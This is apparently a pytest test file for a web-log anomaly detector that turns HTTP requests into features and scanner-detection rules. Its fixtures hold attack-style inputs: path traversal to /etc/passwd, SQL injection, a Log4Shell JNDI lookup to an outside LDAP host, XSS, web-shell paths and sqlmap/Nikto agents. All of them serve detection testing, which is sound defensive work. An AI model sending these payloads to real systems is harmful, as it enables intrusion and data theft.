"""What detectors see of requests."""

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hdfs_pipeline.domains.weblogs.batch import with_clients
from hdfs_pipeline.domains.weblogs.clients import Clients
from hdfs_pipeline.domains.weblogs.columns import COLUMNS, OF_SERVER, SIGNS
from hdfs_pipeline.domains.weblogs.features import matrices
from hdfs_pipeline.settings import load_settings
from hdfs_pipeline_tests.domains.weblogs.written import rows_of, some_days

NOON = datetime(2026, 11, 20, 12, 30, tzinfo=UTC)  # a Friday
SETTINGS = load_settings(Path("nowhere"))


def counted(rows: pa.Table) -> pa.Table:
    return with_clients(rows, Clients().count(rows))


def features_of(**request: Any) -> dict[str, float]:
    """The features that a request has beside those of an ordinary one, which are all 0."""
    rows = rows_of([{"time": NOON, "referer": "https://shop.example/", "response_us": 40_000} | request])
    main = matrices(counted(rows), SETTINGS)["requests"]
    return {name: float(value) for name, value in zip(main.columns, main.values[0], strict=True) if value}


ORDINARY = features_of()


def beside_ordinary(**request: Any) -> dict[str, float]:
    found = features_of(**request)
    return {name: value for name, value in found.items() if ORDINARY.get(name) != value}


def rules_of(**request: Any) -> set[str]:
    found = matrices(counted(rows_of([{"time": NOON} | request])), SETTINGS)["rules"]
    return {name for name, grade in zip(found.columns, found.values[0], strict=True) if grade}


def test_an_ordinary_request_has_few_features() -> None:
    assert ORDINARY == {
        "RESPONSE_MS": 45, "BYTES": 4096, "REQUEST_BYTES": 256.25, "HITS": 1, "PATHS": 1, "DEPTH": 1, "PATH_LENGTH": 1,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("request_", "features"),
    [
        ({"response_us": None}, {"RESPONSE_MS": 32.25}),
        ({"response_us": 0}, {}),
        ({"response_us": 31_000_000}, {"RESPONSE_MS": 32768}),
        ({"bytes": None}, {"BYTES": 4096.25}),
        ({"bytes": 0}, {}),
        ({"bytes": 3_000_000}, {"BYTES": 1 << 20}),
        ({"request_bytes": 900}, {"REQUEST_BYTES": 256}),
        ({"status": 304}, {"REDIRECT": 1}),
        ({"status": 404}, {"CLIENT_ERROR": 1, "MISSES": 1}),
        ({"status": 503}, {"SERVER_ERROR": 1}),
        ({"status": 0}, {"NO_STATUS": 1}),
        ({"status": 999}, {"NO_STATUS": 1}),
        ({"client": "10.2.3.4"}, {"PRIVATE": 1}),
        ({"client": "172.32.0.1"}, {}),
        ({"client": "2001:db8::7"}, {"IPV6": 1}),
        ({"client": "fd00::7"}, {"IPV6": 1, "PRIVATE": 1}),
        ({"client": "host.example.org"}, {"NAMED": 1}),
        ({"client": ""}, {"NO_CLIENT": 1}),
        ({"account": "ann"}, {"LOGGED_IN": 1}),
        ({"referer": "-"}, {"NO_REFERER": 1}),
        ({"method": "HEAD"}, {"HEAD": 1}),
        ({"method": "DELETE"}, {"WRITE": 1}),
        ({"method": "PROPFIND"}, {"RARE_METHOD": 1}),
        ({"method": "\\x16\\x03", "protocol": ""}, {"NO_METHOD": 1, "OLD_PROTOCOL": 1}),
        ({"protocol": "HTTP/2.0"}, {}),
        ({"protocol": "HTTP/1.0"}, {"OLD_PROTOCOL": 1}),
        ({"agent": ""}, {"NO_AGENT": 1}),
        ({"agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, {"BOT": 1}),
        ({"agent": "curl/8.5.0"}, {"TOOL": 1}),
        ({"agent": "Mozilla/5.00 (Nikto/2.1.5)"}, {"SCANNER": 1}),
        ({"agent": "thing"}, {"OTHER_AGENT": 1}),
        ({"time": datetime(2026, 11, 21, 3, tzinfo=UTC)}, {"NIGHT": 1, "WEEKEND": 1}),
        ({"time": datetime(2026, 11, 23, 18, tzinfo=UTC)}, {"EVENING": 1}),
        ({"path": "/a/b/page7"}, {"DEPTH": 3, "PATH_LENGTH": 8, "PATH_DIGITS": 1}),
        ({"path": "/x.css"}, {"PATH_LENGTH": 4, "FILE": 1}),
        ({"path": "/.well-known/a"}, {"DEPTH": 2, "PATH_LENGTH": 8}),
        ({"path": "/.env"}, {"PATH_LENGTH": 4, "HIDDEN": 1, "BACKUP": 1}),
        ({"query": "page=2"}, {"QUERY_LENGTH": 4}),
        ({"query": "f=..%2f..%2fetc%2fpasswd"}, {"QUERY_LENGTH": 16, "QUERY_TRAVERSAL": 1, "QUERY_INJECTION": 1}),
    ],
)  # fmt: skip
def test_what_is_not_ordinary_is_a_feature(request_: dict[str, Any], features: dict[str, float]) -> None:
    assert beside_ordinary(**request_) == features


@pytest.mark.parametrize(
    ("request_", "rules"),
    [
        ({"path": "/wp-login.php", "status": 404}, {"scan-panel"}),
        ({"path": "/wp-login.php", "status": 200}, set()),
        ({"path": "/img/nagios-7.png", "status": 404}, set()),
        ({"path": "/missing.html", "status": 404}, set()),
        ({"path": "/.git/config", "status": 403}, {"scan-hidden"}),
        ({"path": "/site.sql", "status": 404}, {"scan-backup"}),
        ({"path": "/c99.php", "status": 404}, {"scan-shell"}),
        ({"path": "/a/../../b", "status": 200}, {"scan-traversal"}),
        ({"query": "id=1%27+or+1=1--"}, {"scan-injection"}),
        ({"query": "q=${jndi:ldap://203.0.113.9/a}"}, {"scan-injection"}),
        ({"query": "q=<script>alert(1)</script>"}, {"scan-injection"}),
        ({"query": "q=how+to+select+a+shirt+or+a+coat&name=O%27Brien"}, set()),
        ({"agent": "sqlmap/1.7#stable"}, {"scan-agent"}),
        ({"method": "AAAA", "status": 400}, {"garbage-request"}),
        ({"response_us": 31_000_000}, {"slow-answer"}),
        ({"response_us": 31_000_000, "bytes": 400_000_000}, set()),
        ({"status": 502}, {"server-error"}),
        ({"path": "/webhdfs/v1/user/ann/data.csv", "query": "op=OPEN&user.name=ann"}, set()),
    ],
)
def test_rules_know_scanners_garbage_and_slow_answers(request_: dict[str, Any], rules: set[str]) -> None:
    assert rules_of(**request_) == rules


def test_many_misses_of_one_client_are_a_scan_and_repeated_ones_are_not() -> None:
    names = [{"time": NOON, "path": f"/{at:03}", "status": 404} for at in range(40)]
    same = [each | {"path": "/broken.png", "client": "198.51.100.9"} for each in names]
    found = matrices(counted(rows_of([*names, *same])), SETTINGS)["rules"]
    broken = found.values[:, found.columns.index("scan-misses")] > 0
    assert broken.tolist() == [at >= 15 for at in range(40)] + [False] * 40


def test_a_row_depends_on_its_request_alone_and_on_no_form_of_its_texts() -> None:
    rows = counted(some_days())
    whole = matrices(rows, SETTINGS)
    assert len(whole["requests"].rows) < len(rows)

    @settings(max_examples=20, deadline=None)
    @given(st.lists(st.integers(0, len(rows) - 1), max_size=30))
    def holds(chosen: list[int]) -> None:
        taken = rows.take(pa.array(chosen, pa.int64()))
        forms = {"path": pa.string_view(), "query": pa.large_string(), "agent": pa.dictionary(pa.int32(), pa.string())}
        other = pa.table({name: taken[name].cast(forms.get(name, taken[name].type)) for name in taken.column_names})
        for table in (taken, other):
            part = matrices(table, SETTINGS)
            for family, matrix in part.items():
                np.testing.assert_array_equal(matrix.values, whole[family].values[chosen])
                assert matrix.keys.tolist() == rows["request_id"].take(pa.array(chosen, pa.int64())).to_pylist()

    holds()


def test_columns_are_numbers_from_zero_up_and_all_have_words() -> None:
    main = matrices(counted(some_days()), SETTINGS)["requests"]
    assert main.values.dtype == np.float32
    assert main.values.min() >= 0
    assert main.columns == tuple(COLUMNS)
    assert COLUMNS.keys() >= SIGNS | OF_SERVER
